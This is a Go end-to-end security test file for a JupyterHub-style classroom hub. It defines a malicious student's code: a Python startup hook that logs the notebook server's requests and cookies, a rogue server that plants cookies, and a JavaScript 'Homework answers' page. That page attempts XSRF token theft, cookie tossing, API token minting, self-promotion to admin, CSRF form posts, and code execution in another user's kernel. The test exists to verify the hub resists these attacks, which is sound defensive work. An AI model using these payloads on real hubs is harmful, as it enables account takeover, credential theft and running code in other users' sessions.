package e2e

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"
	"github.com/docker/docker/api/types/container"
	"github.com/docker/docker/client"
	"github.com/docker/docker/pkg/stdcopy"

	"github.com/classhub/classhub/hub/spawner"
)

// aliceCode is what alice puts in her own ~/.local: Python runs a user's
// usercustomize.py in every interpreter she starts, her notebook server
// included, so she controls her server's code without touching the image.
// In "spy" mode it keeps the real jupyterhub-singleuser and records every
// request it receives (headers, cookies, URLs with OAuth codes); in
// "serve" mode it replaces the singleuser (PID 1 is tini, which keeps
// waiting for the same process) with her own server on port 8888.
const aliceCode = `import os, json
def _cmdline():
    try:
        return open("/proc/self/cmdline", "rb").read().split(b"\0")
    except OSError:
        return []
_argv = _cmdline()
if len(_argv) > 1 and _argv[1].endswith(b"jupyterhub-singleuser"):
    _evil = os.path.expanduser("~/.evil")
    _mode = open(_evil + "/mode").read().strip() if os.path.exists(_evil + "/mode") else "spy"
    if _mode == "serve":
        os.execv("/usr/bin/python3", ["python3", _evil + "/server.py"])
    import tornado.httputil as _h
    _init = _h.HTTPServerRequest.__init__
    def _spy(self, *a, **k):
        _init(self, *a, **k)
        with open(_evil + "/seen.log", "a") as f:
            f.write(json.dumps({"method": self.method, "uri": self.uri, "headers": dict(self.headers)}) + "\n")
    _h.HTTPServerRequest.__init__ = _spy
`

// aliceServer is alice's own server: it answers the hub's readiness probe,
// serves her page with whatever cookies she wants to plant, and records
// every request.
const aliceServer = `import http.server, json, os
EVIL = os.path.expanduser("~/.evil")
CONFIG = json.load(open(EVIL + "/config.json"))
class Handler(http.server.BaseHTTPRequestHandler):
    def log_message(self, *args):
        pass
    def answer(self):
        n = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(n).decode("utf-8", "replace") if n else ""
        with open(EVIL + "/seen.log", "a") as f:
            f.write(json.dumps({"method": self.command, "uri": self.path, "headers": dict(self.headers), "body": body}) + "\n")
        path = self.path.split("?")[0]
        cookies = []
        if path == CONFIG["prefix"] + "evil.html":
            out, ctype, cookies = open(EVIL + "/page.html", "rb").read(), "text/html; charset=utf-8", CONFIG["setCookies"]
        else:
            out, ctype = b'{"version": "6.5.0"}', "application/json"
        self.send_response(200)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(out)))
        self.send_header("Cache-Control", "no-store")
        for c in cookies:
            self.send_header("Set-Cookie", c)
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(out)
    do_GET = do_POST = do_PUT = do_PATCH = do_DELETE = do_HEAD = do_OPTIONS = answer
http.server.ThreadingHTTPServer(("0.0.0.0", 8888), Handler).serve_forever()
`

// attackPage is the page alice serves. It runs as whoever opens it (who
// is in its URL, as in a link alice sends to one person), tries
// everything listed in the test's doc, and writes what it got into
// #result as JSON. CONFIG is replaced with the test's settings.
const attackPage = `<!doctype html>
<html><head><meta charset="utf-8"><title>Homework answers</title></head>
<body><h1>Homework answers</h1><pre id="result"></pre>
<script>
const C = CONFIG;
const who = new URLSearchParams(location.search).get("who");
const R = {who: who, origin: location.origin};
function cut(s) { return (s || "").slice(0, 4000); }
async function get(name, url, opts) {
  try {
    const r = await fetch(url, Object.assign({credentials: "include", redirect: "manual", cache: "no-store"}, opts || {}));
    let body = "";
    try { body = await r.text(); } catch (e) {}
    R[name] = {status: r.status, type: r.type, url: r.url, body: cut(body)};
  } catch (e) {
    R[name] = {error: String(e)};
  }
  return R[name];
}
function xsrfIn(html) {
  const m = /name="_xsrf"\s+value="([^"]*)"/.exec(html || "");
  return m ? m[1] : "";
}
function frame(name, url) {
  return new Promise(resolve => {
    const f = document.createElement("iframe");
    f.name = name;
    f.src = url;
    const done = () => {
      try {
        const d = f.contentDocument;
        R[name] = {readable: !!(d && d.body), text: d && d.body ? cut(d.body.innerText) : "", html: d ? cut(d.documentElement.outerHTML) : ""};
      } catch (e) {
        R[name] = {error: String(e)};
      }
      resolve();
    };
    f.onload = done;
    setTimeout(done, 5000);
    document.body.appendChild(f);
  });
}
function post(name, url, fields) {
  // A plain form, which every page may send anywhere; the answer lands in
  // a frame the page then tries to read.
  return new Promise(resolve => {
    const f = document.createElement("iframe");
    f.name = name;
    document.body.appendChild(f);
    const form = document.createElement("form");
    form.method = "post";
    form.action = url;
    form.target = name;
    for (const [k, v] of Object.entries(fields)) {
      const i = document.createElement("input");
      i.type = "hidden"; i.name = k; i.value = v;
      form.appendChild(i);
    }
    document.body.appendChild(form);
    let finished = false;
    const done = () => {
      if (finished) return;
      finished = true;
      try {
        const d = f.contentDocument;
        R[name] = {readable: !!(d && d.body), text: d && d.body ? cut(d.body.innerText) : ""};
      } catch (e) {
        R[name] = {sent: true, error: String(e)};
      }
      resolve();
    };
    f.onload = done;
    setTimeout(done, 5000);
    form.submit();
  });
}
function websocket(name, url) {
  return new Promise(resolve => {
    let ws;
    try { ws = new WebSocket(url); } catch (e) { R[name] = {error: String(e)}; return resolve(); }
    const stop = () => { try { ws.close(); } catch (e) {} resolve(); };
    const timer = setTimeout(() => { R[name] = R[name] || {timeout: true}; stop(); }, 15000);
    ws.onopen = () => {
      R[name] = {opened: true, messages: 0};
      ws.send(JSON.stringify({
        header: {msg_id: "alice-" + Date.now(), username: who, session: "alice", msg_type: "execute_request", version: "5.3"},
        parent_header: {}, metadata: {}, channel: "shell",
        content: {code: "open('/tmp/pwned-by-alice-" + who + "', 'w').write('alice ran this')", silent: false,
          store_history: false, user_expressions: {}, allow_stdin: false}}));
    };
    ws.onmessage = () => { R[name].messages++; if (R[name].messages >= 4) { clearTimeout(timer); stop(); } };
    ws.onerror = () => { R[name] = R[name] || {failed: true}; };
    ws.onclose = e => { R[name] = R[name] || {closed: e.code}; clearTimeout(timer); resolve(); };
  });
}
(async () => {
  const bases = {here: "", hub: C.hub};
  // Who is visiting, and their anti-forgery token.
  let xsrf = "";
  for (const [k, base] of Object.entries(bases)) {
    await get("user@" + k, base + "/hub/api/user");
    for (const page of ["token", "home", "admin"]) {
      const r = await get(page + "@" + k, base + "/hub/" + page);
      const x = xsrfIn(r.body);
      if (x) { r.xsrf = x; xsrf = xsrf || x; }
    }
  }
  await frame("frame-admin@here", "/hub/admin");
  await frame("frame-admin@hub", C.hub + "/hub/admin");
  await frame("frame-token@hub", C.hub + "/hub/token");
  for (const k of ["frame-admin@here", "frame-admin@hub", "frame-token@hub"]) {
    const x = xsrfIn(R[k] && R[k].html);
    if (x) { R[k].xsrf = x; xsrf = xsrf || x; }
  }
  R.xsrf = xsrf;
  R.cookies = document.cookie;
  // bob's kernel, before anything below could stop his server.
  await websocket("ws-bob", C.bobWS + "api/kernels/" + C.bobKernel + "/channels?session_id=alice");
  // Cookie tossing: an anti-forgery cookie of alice's choosing, and alice's
  // own login for the hub's paths.
  for (const p of ["/", "/hub/", "/hub/api/"]) document.cookie = "_xsrf=tossed-by-alice; path=" + p;
  for (const p of ["/hub/", "/hub/api/", "/hub/home"]) document.cookie = C.loginCookie + "=" + C.aliceLogin + "; path=" + p;
  R.cookiesAfter = document.cookie;
  const tokens = [xsrf, "tossed-by-alice"].filter(Boolean);
  for (const [k, base] of Object.entries(bases)) {
    for (const x of tokens) {
      const tag = (x === xsrf ? "read" : "tossed") + "@" + k;
      const q = "?_xsrf=" + encodeURIComponent(x);
      const h = {"Content-Type": "application/json", "X-XSRFToken": x};
      await get("mint-" + tag, base + "/hub/api/users/" + who + "/tokens" + q, {method: "POST", headers: h, body: JSON.stringify({note: "alice was here", expires_in: 3600})});
      await get("promote-" + tag, base + "/hub/api/users/" + C.alice + q, {method: "PATCH", headers: h, body: JSON.stringify({admin: true})});
      await get("start-" + tag, base + "/hub/api/users/" + who + "/server" + q, {method: "POST", headers: h});
      await get("stop-bob-" + tag, base + "/hub/api/users/" + C.bob + "/server" + q, {method: "DELETE", headers: h});
    }
    // Simple requests need no preflight: they reach the hub even where
    // the page cannot read the answer.
    await get("mint-simple@" + k, base + "/hub/api/users/" + who + "/tokens", {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body: JSON.stringify({note: "alice was here (simple)"})});
  }
  for (const x of tokens) {
    const tag = x === xsrf ? "read" : "tossed";
    await post("form-token-" + tag, C.hub + "/hub/token", {_xsrf: x, action: "create", note: "alice was here (form)", expires_in: "3600"});
    await post("form-admin-" + tag, C.hub + "/hub/admin/action", {_xsrf: x, action: "stop", user: C.bob, confirm: "yes"});
    await post("form-image-" + tag, C.hub + "/hub/admin/image", {_xsrf: x, image_other: "alice/evil:1"});
    await post("form-home-" + tag, C.hub + "/hub/home", {_xsrf: x, action: "stop"});
  }
  document.getElementById("result").textContent = JSON.stringify(R);
  window.attackDone = true;
})();
</script></body></html>
`

// attackResult is one thing the page tried and what it got.
type attackResult struct {
	Status   int    `json:"status"`
	Type     string `json:"type"`
	URL      string `json:"url"`
	Body     string `json:"body"`
	Error    string `json:"error"`
	XSRF     string `json:"xsrf"`
	Readable bool   `json:"readable"`
	Text     string `json:"text"`
	HTML     string `json:"html"`
	Opened   bool   `json:"opened"`
	Messages int    `json:"messages"`
}

// dockerExec runs cmd in a container as jovyan, as alice's terminal does,
// and returns its output and exit code.
func dockerExec(t *testing.T, cli client.APIClient, name string, cmd ...string) (string, int) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	ex, err := cli.ContainerExecCreate(ctx, name, container.ExecOptions{User: "jovyan", Cmd: cmd, AttachStdout: true, AttachStderr: true})
	if err != nil {
		t.Fatalf("exec %v in %s: %v", cmd, name, err)
	}
	att, err := cli.ContainerExecAttach(ctx, ex.ID, container.ExecAttachOptions{})
	if err != nil {
		t.Fatalf("exec %v in %s: %v", cmd, name, err)
	}
	defer att.Close()
	var buf bytes.Buffer
	if _, err := stdcopy.StdCopy(&buf, &buf, att.Reader); err != nil {
		t.Fatalf("exec %v in %s: %v", cmd, name, err)
	}
	ins, err := cli.ContainerExecInspect(ctx, ex.ID)
	if err != nil {
		t.Fatalf("exec %v in %s: %v", cmd, name, err)
	}
	return buf.String(), ins.ExitCode
}

// writeIn writes a file in a container as jovyan, making its folder.
func writeIn(t *testing.T, cli client.APIClient, name, path, content string) {
	t.Helper()
	b64 := base64.StdEncoding.EncodeToString([]byte(content))
	script := fmt.Sprintf(`mkdir -p "$(dirname %s)" && echo %s | base64 -d > %s`, path, b64, path)
	if out, code := dockerExec(t, cli, name, "sh", "-c", script); code != 0 {
		t.Fatalf("write %s in %s: exit %d: %s", path, name, code, out)
	}
}

// containerLog is everything a container wrote to stdout and stderr.
func containerLog(t *testing.T, cli client.APIClient, name string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	rc, err := cli.ContainerLogs(ctx, name, container.LogsOptions{ShowStdout: true, ShowStderr: true})
	if err != nil {
		t.Fatalf("logs of %s: %v", name, err)
	}
	defer rc.Close()
	var buf bytes.Buffer
	stdcopy.StdCopy(&buf, &buf, rc)
	return buf.String()
}

// recorder is an HTTP client for the hub that keeps every response body,
// so the test can look for secrets in all of them afterwards.
type recorder struct {
	t    *testing.T
	http *http.Client
	mu   sync.Mutex
	seen []string // "METHOD URL → status body"
}

func newRecorder(t *testing.T) *recorder {
	return &recorder{t: t, http: &http.Client{Timeout: 30 * time.Second,
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}}
}

// do sends a request with the given headers and JSON body (nil for none).
// keep false leaves the answer out of the record: a token's creation
// shows it once, by design.
func (rc *recorder) do(method, u string, hdr http.Header, body any, keep bool) (int, string, http.Header) {
	rc.t.Helper()
	var r io.Reader
	switch b := body.(type) {
	case nil:
	case string:
		r = strings.NewReader(b)
	default:
		j, _ := json.Marshal(b)
		r = bytes.NewReader(j)
	}
	req, err := http.NewRequest(method, u, r)
	if err != nil {
		rc.t.Fatal(err)
	}
	for k, vs := range hdr {
		req.Header[k] = vs
	}
	resp, err := rc.http.Do(req)
	if err != nil {
		rc.t.Fatalf("%s %s: %v", method, u, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	if keep {
		rc.mu.Lock()
		// A login's Set-Cookie is how a cookie is meant to arrive.
		h := resp.Header.Clone()
		h.Del("Set-Cookie")
		rc.seen = append(rc.seen, fmt.Sprintf("%s %s → %d %s %s", method, u, resp.StatusCode, h, b))
		rc.mu.Unlock()
	}
	return resp.StatusCode, string(b), resp.Header
}

func (rc *recorder) record(what string) {
	rc.mu.Lock()
	rc.seen = append(rc.seen, what)
	rc.mu.Unlock()
}

func (rc *recorder) all() string {
	rc.mu.Lock()
	defer rc.mu.Unlock()
	return strings.Join(rc.seen, "\n")
}

func tokenHeader(tok string) http.Header { return http.Header{"Authorization": {"token " + tok}} }

// hubState is what the attacks must not change, read with an admin token.
type hubState struct {
	admins  map[string]bool
	tokens  map[string][]string // token ids by user
	running map[string]bool
	users   int
}

func readState(t *testing.T, rc *recorder, base, adminTok string, names ...string) hubState {
	t.Helper()
	st := hubState{admins: map[string]bool{}, tokens: map[string][]string{}, running: map[string]bool{}}
	code, body, _ := rc.do("GET", base+"/hub/api/users", tokenHeader(adminTok), nil, true)
	if code != 200 {
		t.Fatalf("list users with the admin token: %d %s", code, body)
	}
	var list []json.RawMessage
	json.Unmarshal([]byte(body), &list)
	st.users = len(list)
	for _, n := range names {
		code, body, _ := rc.do("GET", base+"/hub/api/users/"+url.PathEscape(n), tokenHeader(adminTok), nil, true)
		if code != 200 {
			t.Fatalf("user %s: %d %s", n, code, body)
		}
		var u struct {
			Admin   bool `json:"admin"`
			Servers map[string]struct {
				Ready bool `json:"ready"`
			} `json:"servers"`
		}
		json.Unmarshal([]byte(body), &u)
		st.admins[n] = u.Admin
		st.running[n] = u.Servers[""].Ready
		code, body, _ = rc.do("GET", base+"/hub/api/users/"+url.PathEscape(n)+"/tokens", tokenHeader(adminTok), nil, true)
		if code != 200 {
			t.Fatalf("tokens of %s: %d %s", n, code, body)
		}
		var toks struct {
			APITokens []struct {
				ID   string `json:"id"`
				Note string `json:"note"`
			} `json:"api_tokens"`
		}
		json.Unmarshal([]byte(body), &toks)
		for _, tk := range toks.APITokens {
			st.tokens[n] = append(st.tokens[n], tk.ID+" "+tk.Note)
		}
	}
	return st
}

// changes lists, as sentences, what differs between two states.
func (before hubState) changes(after hubState) []string {
	var out []string
	if after.users != before.users {
		out = append(out, fmt.Sprintf("the hub has %d users, it had %d", after.users, before.users))
	}
	for n, was := range before.admins {
		if after.admins[n] != was {
			out = append(out, fmt.Sprintf("%s's admin flag went from %v to %v", n, was, after.admins[n]))
		}
	}
	for n, was := range before.running {
		if after.running[n] != was {
			out = append(out, fmt.Sprintf("%s's server went from running=%v to running=%v", n, was, after.running[n]))
		}
	}
	for n, was := range before.tokens {
		old := map[string]bool{}
		for _, id := range was {
			old[id] = true
		}
		for _, id := range after.tokens[n] {
			if !old[id] {
				out = append(out, fmt.Sprintf("%s has a new API token (%s)", n, id))
			}
		}
	}
	return out
}

// serverBase is where name's running server is: its path on the hub's
// origin, or on its own origin when the hub redirects there.
func serverBase(t *testing.T, rc *recorder, base, adminTok, name string) string {
	t.Helper()
	code, body, _ := rc.do("GET", base+"/hub/api/users/"+url.PathEscape(name), tokenHeader(adminTok), nil, true)
	if code != 200 {
		t.Fatalf("user %s: %d %s", name, code, body)
	}
	var u struct {
		Servers map[string]struct {
			URL string `json:"url"`
		} `json:"servers"`
	}
	json.Unmarshal([]byte(body), &u)
	s := u.Servers[""].URL
	if s == "" {
		s = "/user/" + name + "/"
	}
	if !strings.HasPrefix(s, "http") {
		s = base + s
	}
	// A server with an origin of its own is where the hub's origin
	// redirects its path.
	code, _, hdr := rc.do("GET", s, nil, nil, false)
	if loc, err := url.Parse(hdr.Get("Location")); code/100 == 3 && err == nil && loc.Host != "" && strings.HasPrefix(loc.Path, spawner.ServerPrefix(name)) {
		return loc.Scheme + "://" + loc.Host + spawner.ServerPrefix(name)
	}
	return s
}

// loginCookies logs name in with a plain client (the first login sets the
// password) and returns the cookies the hub set.
func loginCookies(t *testing.T, base, name, password string) []*http.Cookie {
	t.Helper()
	jar, _ := cookiejar.New(nil)
	// Where the login leads (the user's server, which would get an OAuth
	// token) is not followed.
	client := &http.Client{Jar: jar, Timeout: time.Minute,
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	resp, err := client.Get(base + "/hub/login")
	if err != nil {
		t.Fatal(err)
	}
	page, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	form := url.Values{"username": {name}, "password": {password}, "_xsrf": {hiddenValue(t, string(page), "_xsrf")}}
	resp, err = client.PostForm(base+"/hub/login", form)
	if err != nil {
		t.Fatal(err)
	}
	page, _ = io.ReadAll(resp.Body)
	resp.Body.Close()
	if strings.Contains(string(page), `name="confirm"`) {
		form.Set("confirm", password)
		form.Set("_xsrf", hiddenValue(t, string(page), "_xsrf"))
		resp, err = client.PostForm(base+"/hub/login", form)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
	}
	u, _ := url.Parse(base + "/hub/")
	cs := jar.Cookies(u)
	if len(cs) == 0 {
		t.Fatalf("logging in as %s set no cookie", name)
	}
	return cs
}

// browserCookies are every cookie the tab's browser context holds for
// the given URLs, read through the DevTools protocol as an attacker with
// the browser's profile would.
func browserCookies(tb *tab, urls ...string) []*network.Cookie {
	tb.t.Helper()
	ctx, cancel := context.WithTimeout(tb.ctx, 30*time.Second)
	defer cancel()
	res, err := chromedp.Call(ctx, network.GetCookies, network.GetCookiesParams{URLs: urls})
	if err != nil {
		tb.fatalf("read the browser's cookies: %v", err)
	}
	return res.Cookies
}

// codesSeen watches a tab's requests for OAuth codes in URLs.
type codesSeen struct {
	mu    sync.Mutex
	codes map[string]string // code → the URL it was sent to, without the query
}

func watchCodes(tb *tab) *codesSeen {
	cs := &codesSeen{codes: map[string]string{}}
	err := chromedp.Listen(tb.ctx, func(ev any) {
		if e, ok := ev.(*network.EventRequestWillBeSent); ok {
			if u, err := url.Parse(e.Request.URL); err == nil {
				if c := u.Query().Get("code"); c != "" {
					u.RawQuery = ""
					cs.mu.Lock()
					cs.codes[c] = u.String()
					cs.mu.Unlock()
				}
			}
		}
	})
	if err != nil {
		tb.fatalf("watch the tab's requests for OAuth codes: %v", err)
	}
	return cs
}

func (cs *codesSeen) all() map[string]string {
	cs.mu.Lock()
	defer cs.mu.Unlock()
	out := make(map[string]string, len(cs.codes))
	for c, u := range cs.codes {
		out[c] = u
	}
	return out
}

// secretish finds strings that look like credentials: long runs of
// token characters.
var secretish = regexp.MustCompile(`[A-Za-z0-9_\-+/=.]{20,}`)

// harvest is everything alice can pull out of text her server received
// or printed: long token-like strings, cookie values, and the values
// tornado's signed cookies carry (base64 inside "N:value" fields).
func harvest(text string) []string {
	seen := map[string]bool{}
	var out []string
	add := func(s string) {
		s = strings.Trim(s, `"',;:{}[]()= `)
		for _, r := range s {
			if r < 0x21 || r > 0x7e {
				return // not something a header can carry
			}
		}
		if len(s) >= 16 && !seen[s] {
			seen[s] = true
			out = append(out, s)
		}
	}
	for _, m := range secretish.FindAllString(text, -1) {
		add(m)
	}
	for _, field := range regexp.MustCompile(`[A-Za-z0-9_\-]+=([^;"\s\\]+)`).FindAllStringSubmatch(text, -1) {
		v, _ := url.QueryUnescape(field[1])
		add(v)
		for _, part := range strings.Split(v, "|") {
			_, val, ok := strings.Cut(part, ":")
			if !ok {
				continue
			}
			for _, enc := range []*base64.Encoding{base64.StdEncoding, base64.URLEncoding, base64.RawStdEncoding, base64.RawURLEncoding} {
				if b, err := enc.DecodeString(val); err == nil {
					add(string(b))
					for _, m := range secretish.FindAllString(string(b), -1) {
						add(m)
					}
					break
				}
			}
		}
	}
	return out
}

// containerOf is the name of name's server container.
func containerOf(name string) string { return spawner.ContainerName(name) }
